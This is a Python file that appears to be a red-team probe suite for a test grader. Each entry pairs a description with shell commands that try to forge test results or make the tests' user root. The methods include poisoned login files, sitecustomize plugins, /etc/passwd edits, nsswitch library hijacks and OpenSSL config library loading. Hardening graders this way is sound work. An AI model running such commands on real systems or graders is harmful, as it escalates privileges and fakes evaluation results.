"""Wrong answers by way of what a login shell reads, and of who the tests' user is."""

from __future__ import annotations

from engine.proof.probes.model import Probe

PROBES = (
    Probe(
        "options-by-profile",
        "PYTEST_ADDOPTS, PYTEST_PLUGINS and PYTHONPATH are set at every login, and cannot be unset.",
        """mkdir "$KIT/more"; cp "$KIT/forge.py" "$KIT/more/helper.py"; cp "$KIT/forge.py" "$KIT/more/sitecustomize.py"
        for file in /etc/profile.d/zz.sh "$HOUSE/.bash_profile"; do
        echo "export PYTEST_ADDOPTS='-p helper' PYTEST_PLUGINS=helper PYTHONPATH=$KIT/more" >"$file"
        echo "unset() { :; }" >>"$file"; done""",
    ),
    Probe(
        "python-path-by-profile",
        "PYTHONPATH is set at every login, which alone is enough for a start-up hook.",
        """mkdir "$KIT/more"; cp "$KIT/forge.py" "$KIT/more/sitecustomize.py"
        echo "export PYTHONPATH=$KIT/more" >>/etc/profile""",
    ),
    Probe(
        "environment-file",
        "Everything is set in /etc/environment.",
        """mkdir "$KIT/more"; cp "$KIT/forge.py" "$KIT/more/helper.py"; cp "$KIT/forge.py" "$KIT/more/sitecustomize.py"
        printf 'PYTEST_ADDOPTS=-p helper\\nPYTEST_PLUGINS=helper\\nPYTHONPATH=%s\\nBASH_ENV=%s\\n' "$KIT/more" "$KIT/forge.sh" \\
            >>/etc/environment""",
    ),
    Probe(
        "assertions-off",
        "Every login turns assertions off.",
        "echo 'export PYTHONOPTIMIZE=2' >/etc/profile.d/zz.sh",
        solved=True,
    ),
    Probe(
        "profile-that-reports",
        "The login shell itself writes the results.",
        "printf 'cat %s >&3; exit 0\\n' \"$KIT/results\" >/etc/profile.d/00.sh",
    ),
    Probe(
        "function-for-exec",
        "A function takes the place of what starts the interpreter.",
        """echo "exec() { cat $KIT/results >&3; builtin exit 0; }" >>/etc/profile""",
    ),
    Probe(
        "hidden-command-in-a-setting",
        "A setting at login runs a command on the way.",
        """echo 'export LANG="$(cat '"$KIT/results"' >\\&3; kill -9 $$)"' | sed 's/\\\\//' >>/etc/profile""",
    ),
    Probe(
        "profile-of-the-home-directory",
        "The tests' user has a login file that writes the results.",
        'printf \'cat %s >&3; exit 0\\n\' "$KIT/results" | tee "$HOUSE/.bash_profile" >"$HOUSE/.bash_login"',
    ),
    Probe(
        "home-that-root-may-not-enter",
        "The home directory is a link of its user's in a place where the kernel lets nobody else follow it.",
        """mkdir "$KIT/sticky"; chmod 1777 "$KIT/sticky"; mv "$HOUSE" "$KIT/house"; ln -s "$KIT/house" "$KIT/sticky/link"
        chown -h "$TESTER" "$KIT/sticky/link"; ln -s "$KIT/sticky/link" "$HOUSE" """,
        solved=True,
    ),
    Probe(
        "tests-by-root",
        "The tests' user is root.",
        'sed -i "s/^$TESTER:[^:]*:[0-9]*:[0-9]*:/$TESTER:x:0:0:/" /etc/passwd && grep -q "^$TESTER:x:0" /etc/passwd',
    ),
    Probe(
        "another-user-of-that-name",
        "A second entry for the tests' user comes first.",
        'sed -i "1i $TESTER:x:0:0::/root:/bin/bash" /etc/passwd',
    ),
    Probe(
        "command-after-a-setting",
        "A line of a login file that looks like a setting and is a command with one.",
        """{ echo '#!/bin/bash'; echo "cat $KIT/results >&3; exit 0"; } >"$KIT/run"; chmod 755 "$KIT/run"
        echo "LANG=C exec $KIT/run" >/etc/profile.d/00.sh""",
    ),
    Probe(
        "two-settings-in-one",
        "A line of a login file sets one harmless variable and PYTHONPATH.",
        """mkdir "$KIT/more"; cp "$KIT/forge.py" "$KIT/more/sitecustomize.py"
        echo "export LANG=C PYTHONPATH=$KIT/more" >/etc/profile.d/00.sh""",
    ),
    Probe(
        "setting-in-an-expansion",
        "A variable is set by the expansion of another, and exported later.",
        """mkdir "$KIT/more"; cp "$KIT/forge.py" "$KIT/more/sitecustomize.py"
        { echo 'WANTED="${PYTHONPATH:='"$KIT/more"'}"'; echo 'export PYTHONPATH'; } >/etc/profile.d/00.sh""",
    ),
    Probe(
        "comment-for-some",
        "What is a comment to others is a command to bash, which ends lines at fewer characters.",
        """{ echo '#!/bin/bash'; echo "cat $KIT/results >&3; exit 0"; } >"$KIT/run"; chmod 755 "$KIT/run"
        printf 'LANG=C\\f# exec %s\\n' "$KIT/run" >/etc/profile.d/00.sh""",
    ),
    Probe(
        "late-line",
        "A login file says something after a megabyte of comments.",
        """{ echo; yes '# nothing' | head -c 1100000; echo; cat "$HOUSE/.profile" 2>/dev/null || :
        echo "cat $KIT/results >&3; exit 0"; } >"$KIT/new"; cat "$KIT/new" >/etc/profile.d/00.sh""",
    ),
    Probe(
        "tests-by-root-behind-a-space",
        "An entry for the tests' user that begins with a space, as root.",
        """{ echo " $TESTER:x:0:0::/root:/bin/bash"; cat /etc/passwd; } >"$KIT/new"; cat "$KIT/new" >/etc/passwd""",
    ),
    Probe(
        "another-group-behind-a-space",
        "An entry as it was, behind what only some take for a space, and one with another group.",
        """{ printf '\\302\\240'; grep "^$TESTER:" /etc/passwd; cat /etc/passwd; } |
        sed "s/^\\($TESTER:[^:]*:[0-9]*\\):[0-9]*:/\\1:12:/" >"$KIT/new"; cat "$KIT/new" >/etc/passwd""",
        solved=True,
    ),
    Probe(
        "groups-looked-up-elsewhere",
        "Groups are looked up by way of another library, which the grader's root would load.",
        """sed -i 's/^group:.*/group: helper files/' /etc/nsswitch.conf; grep -q helper /etc/nsswitch.conf ||
        echo 'initgroups: helper files' >>/etc/nsswitch.conf; cp /lib/*/libm.so.6 "$KIT/m"; for at in /lib/*-linux-*; do
        cp "$KIT/m" "$at/libnss_helper.so.2"; done""",
        solved=True,
    ),
    Probe(
        "lines-put-together",
        "A line of one login file that runs what a variable names, in another and after a setting of one's own.",
        """printf 'cat %s >&3; exit 0\\n' "$KIT/results" >"$KIT/run"; printf 'i=%s\\n. $i\\n' "$KIT/run" >/etc/profile.d/00.sh""",
    ),
    Probe(
        "variable-in-a-loop",
        "A setting in the middle of a login file's own loop.",
        """printf 'cat %s >&3; exit 0\\n' "$KIT/results" >"$KIT/run"
        sed -i "s|^\\( *\\)\\. \\$i|\\1i=$KIT/run\\n&|" /etc/profile; grep -q "i=$KIT/run" /etc/profile""",
    ),
    Probe(
        "guard-taken-away",
        "What keeps a login from reading further is gone, and further on somebody's own file is read.",
        """grep -q bash_aliases "$HOUSE/.bashrc"; sed -i '/^case \\$- in/,/^esac/d' "$HOUSE/.bashrc"
        printf 'cat %s >&3; exit 0\\n' "$KIT/results" >"$HOUSE/.bash_aliases" """,
    ),
    Probe(
        "warning-that-is-imported",
        "A setting names a category of warnings, and with it a module.",
        """mkdir -p "$LIB/site-packages"; cp "$KIT/forge.py" "$LIB/site-packages/helper.py"
        echo 'export PYTHONWARNINGS=ignore::site-packages.helper.Any' >/etc/profile.d/00.sh""",
    ),
    Probe(
        "settings-of-openssl",
        "A setting names other settings for OpenSSL, which load a library.",
        """printf 'openssl_conf = i\\n[i]\\nproviders = p\\n[p]\\ne = e\\n[e]\\nmodule = %s/e.so\\nactivate = 1\\n' "$KIT" >"$KIT/cnf"
        echo "export OPENSSL_CONF=$KIT/cnf" >/etc/profile.d/00.sh""",
        solved=True,
    ),
    Probe(
        "providers-of-openssl-that-are-paths",
        "OpenSSL's settings give providers names that are paths of libraries.",
        """for at in /etc/ssl /usr/lib/ssl; do mkdir -p "$at"
        { printf 'openssl_conf = i\\n[i]\\nproviders = p\\n[p]\\ne = e\\n%s/e = f\\n' "$KIT"
        printf '[e]\\nidentity = %s/e\\nactivate = 1\\n[f]\\nactivate = 1\\n' "$KIT"; } >"$at/openssl.cnf"; done""",
        solved=True,
    ),
    Probe(
        "settings-of-openssl-behind-a-mark",
        "A mark of the text's encoding comes before the line by which OpenSSL reads further settings.",
        """printf 'openssl_conf = i\\n[i]\\nproviders = p\\n[p]\\ne = e\\n[e]\\nmodule = %s/e.so\\nactivate = 1\\n' "$KIT" >"$KIT/cnf"
        for at in /etc/ssl /usr/lib/ssl; do mkdir -p "$at"; printf '\\357\\273\\277.include %s/cnf\\n' "$KIT" >"$at/openssl.cnf"; done""",
        solved=True,
    ),
    Probe(
        "services-looked-up-in-a-library",
        "A library that a setting has always named, but was never there.",
        """grep -q '^services:.* db' /etc/nsswitch.conf || sed -i 's/^services:/& db/' /etc/nsswitch.conf
        for at in /lib/*-linux-*; do cp "$at/libm.so.6" "$at/libnss_db.so.2"; done""",
        solved=True,
    ),
    Probe(
        "hosts-looked-up-elsewhere",
        "Names of machines are looked up by way of a library of one's own.",
        """sed -i 's/^hosts:/& helper/' /etc/nsswitch.conf; grep -q helper /etc/nsswitch.conf || echo 'hosts: helper' >>/etc/nsswitch.conf""",
        solved=True,
    ),
)
